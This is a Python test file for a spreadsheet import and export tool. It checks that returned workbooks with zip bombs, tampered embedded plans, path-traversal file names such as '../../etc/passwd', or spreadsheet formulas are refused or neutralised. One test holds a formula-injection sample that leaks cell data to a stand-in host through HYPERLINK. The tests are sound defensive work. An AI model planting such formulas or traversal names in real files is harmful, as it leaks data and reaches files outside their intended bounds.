"""A workbook that comes back is hostile: bombs, a carried plan that is no plan, names outside the plan, texts that are formulas."""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest

from ldip.errors import SourceError
from ldip.plan.bounds import PLAN_BYTES
from ldip.plan.edits import SetCell, apply
from ldip.workbook.layout import CARRIER, MARK, VERSION, carried, digest_of
from ldip.workbook.taking import taken_in
from ldip.workbook.write_book import workbook_of
from tests.workbook.books import At, book, cells, changed, free, plan


def with_part(raw: bytes, part: str, content: bytes) -> bytes:
    """A workbook with one of its parts replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, content if name == part else old.read(name))
    return out.getvalue()


def test_a_bomb_is_refused() -> None:
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    )
    with pytest.raises(SourceError):
        taken_in(plan("nordvik"), "bok.xlsx", with_part(book("nordvik"), "xl/worksheets/sheet2.xml", sheet))


def carrying(texts: list[str]) -> Callable[[Any], None]:
    def change(opened: Any) -> None:
        sheet = opened[CARRIER]
        sheet.delete_rows(1, sheet.max_row)
        for r, text in enumerate(texts, start=1):
            sheet.cell(r, 1).value = text

    return change


def packed_bomb() -> str:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("plan.toml", b" " * (PLAN_BYTES + 1))
    return base64.b64encode(out.getvalue()).decode()


CARRIED = {
    "bombe": lambda: [MARK, VERSION, "0", *[t[i : i + 30_000] for t in [packed_bomb()] for i in range(0, len(t), 30_000)]],
    "ingen zip": lambda: [MARK, VERSION, "0", base64.b64encode(b"x").decode()],
    "ikke base64": lambda: [MARK, VERSION, "0", "æøå"],
    "utenfor planen": lambda: [MARK, VERSION, "0", *carried({**plan("nordvik"), "../../x.toml": b""})],
    "endret": lambda: [MARK, VERSION, "0" * 64, *carried(plan("nordvik"))],
    "annen utgave": lambda: [MARK, "99", digest_of(plan("nordvik")), *carried(plan("nordvik"))],
}


@pytest.mark.parametrize("kind", CARRIED)
def test_a_carried_plan_that_is_none_is_refused(kind: str) -> None:
    small = openpyxl.Workbook()
    small.active.title = "Start"
    small.active["A1"] = "x"
    small.create_sheet(CARRIER)
    carrying(CARRIED[kind]())(small)
    out = io.BytesIO()
    small.save(out)
    with pytest.raises(SourceError, match="planen"):
        taken_in(plan("nordvik"), "bok.xlsx", out.getvalue())


def test_names_and_keys_outside_the_plan_are_refused_at_their_cells() -> None:
    projects, end, columns = free("nordvik", "prosjekter/")
    macro, last, heads = free("nordvik", "forutsetninger.toml")

    def change(opened: Any) -> None:
        for r, name in enumerate(("../../etc/passwd", "x" * 300, "con")):
            opened[projects].cell(end + r, columns["#fil"]).value = name
            opened[projects].cell(end + r, columns["navn"]).value = "Nytt"
        for r, key in enumerate(("a" * 300, "x..y", ".".join("abcdefghijklmnopqrstuvwxyz"))):
            opened[macro].cell(last + r, heads["#nøkkel"]).value = key
            opened[macro].cell(last + r, heads["verdi"]).value = "1"

    found = changed("nordvik", change)
    assert found.problems
    assert all(p.file.startswith("ark ") for p in found.problems)
    assert (found.edits, found.files) == ((), {})


def test_no_text_of_a_plan_becomes_a_formula() -> None:
    danger = '=HYPERLINK("http://x.example/?"&A1)'
    grid_line = min(a.row.line for a in _loans())
    contents = apply(plan("nordvik"), [SetCell(fil="laan.csv", rad=grid_line, kolonne="navn", verdi=danger)])
    raw = workbook_of(contents)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert b"quotePrefix" in archive.read("xl/styles.xml")
    assert not any(b"<f>" in s or b"<f " in s for s in sheets)
    found = taken_in(contents, "bok.xlsx", raw)
    assert (found.problems, found.changes) == ((), ())


def _loans() -> list[At]:
    return [a for a in cells("nordvik") if a.row.file == "laan.csv" and a.head.key == "navn"]
